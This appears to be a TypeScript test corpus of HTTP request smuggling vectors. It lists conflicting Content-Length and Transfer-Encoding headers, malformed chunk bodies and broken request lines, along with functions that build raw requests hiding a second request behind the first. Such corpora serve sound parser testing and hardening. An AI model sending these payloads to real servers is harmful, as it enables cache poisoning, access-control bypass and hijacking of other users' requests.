/** Attacks on the framing of requests, as data. `RUN` stands for the mark of a run, `/first` and `/smuggled` for targets. */

/** What stands behind each: harmless as a request of its own, smuggled as a part of the one before. */
export const SMUGGLED: string = 'GET /smuggled HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nConnection: close\r\n\r\n'
export const LENGTHS: readonly string[] = [
  '',
  'Content-Length: 0',
  'Content-Length: 5',
  `Content-Length: ${5 + SMUGGLED.length}`,
  'content-length: 0\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 5',
  'Content-Length: 5, 5',
  'Content-Length: +5',
  'Content-Length: -5',
  'Content-Length: 0x5',
  'Content-Length: 5.0',
  'Content-Length: 5 5',
  'Content-Length:',
  'Content-Length: 99999999999999999999',
  'Content-Length : 5',
  'Content_Length: 5',
  'Content-Length:\t5',
]
export const ENCODINGS: readonly string[] = [
  '',
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding:',
  'Transfer_Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'Transfer-Encoding: \x0bchunked',
]

/** Every length with one encoding, in both orders, with a body and without. */
export function framings(encoding: string, version: string): readonly string[] {
  const all = LENGTHS.flatMap((length) => [
    [length, encoding],
    [encoding, length],
  ])
  return all.flatMap((lines) => ['GET', 'POST'].map((method) => framing(method, version, lines)))
}

/** One request whose head has these lines, and one behind it. */
export function framing(method: string, version: string, lines: readonly string[]): string {
  const head = [`${method} /first HTTP/${version}`, 'Host: a', 'X-Run: RUN', ...lines.filter((line) => line !== '')]
  return `${head.join('\r\n')}\r\n\r\n0\r\n\r\n${SMUGGLED}`
}

const CHUNKED = 'POST /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n'

/** Bodies of a request in chunks. */
export const CHUNKS: readonly string[] = [
  '0;\n\r\n\r\n',
  '0\n\r\n',
  '0\r\n\n',
  '0\r\r\n\r\n',
  '1\r\nZZ\r\n0\r\n\r\n',
  '1\r\nZ0\r\n\r\n',
  '1\nZ\r\n0\r\n\r\n',
  '1 \r\nZ\r\n0\r\n\r\n',
  ' 1\r\nZ\r\n0\r\n\r\n',
  '+1\r\nZ\r\n0\r\n\r\n',
  '-1\r\nZ\r\n0\r\n\r\n',
  '0x1\r\nZ\r\n0\r\n\r\n',
  '1_0\r\nZ\r\n0\r\n\r\n',
  '00000000000000000001\r\nZ\r\n0\r\n\r\n',
  '10000000000000001\r\nZ\r\n0\r\n\r\n',
  'ffffffffffffffff\r\nZ\r\n0\r\n\r\n',
  '1;a="\r\n\r\n"\r\nZ\r\n0\r\n\r\n',
  '1;a=b\nZ\r\n0\r\n\r\n',
  '1;\0\r\nZ\r\n0\r\n\r\n',
  '1;a=b;c=d\r\nZ\r\n0\r\n\r\n',
  `1;${'x'.repeat(20_000)}\r\nZ\r\n0\r\n\r\n`,
  '0\r\nContent-Length: 5\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\nHost: b\r\n\r\n',
  '0\r\nX : y\r\n\r\n',
  '0\r\nX: y\r\n z\r\n\r\n',
  '0\r\nX: y\n\r\n',
  '0\r\n: y\r\n\r\n',
  '\r\n0\r\n\r\n',
  '',
]

export function inChunks(body: string): string {
  return `${CHUNKED}${body}${SMUGGLED}`
}

/** Heads of requests. */
export const HEADS: readonly string[] = [
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nHost: b\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nhost: a\r\n\r\n',
  'GET /first HTTP/1.1\r\nHost: a, b\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost:\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nX: y\r\n\tz: 1\r\n\r\n',
  'GET /first HTTP/1.1\r\n Host: a\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n: b\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nno colon\r\n\r\n',
  'GET /first HTTP/1.1\r\nHost: a\rX: y\r\n\r\n',
  'GET /first HTTP/1.1\r\nHost: a\nX: y\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nX: y\r\n\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nX: a\0b\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nX\0: b\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nX: a\x7fb\r\n\r\n',
  'GET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\nContent-Length: 0\r\nX: a\r\nGET /smuggled HTTP/1.1\r\n\r\n',
  'GET /first HTTP/1.1 HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /first\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /first HTTP/0.9\r\n\r\n',
  'GET /first HTTP/2.0\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /first HTTP/1.2\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /first HTTP/1.1x\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET  /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET\t/first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /first  HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /fi rst HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'G\0T /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET /fi\0rst HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'GET http://a/first HTTP/1.1\r\nHost: b\r\n\r\n',
  'GET http://a@b/first HTTP/1.1\r\nHost: b\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
  '\r\n\r\n\r\nGET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
  'PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET /first HTTP/1.1\r\nX-Run: RUN\r\nHost: a\r\n\r\n',
]
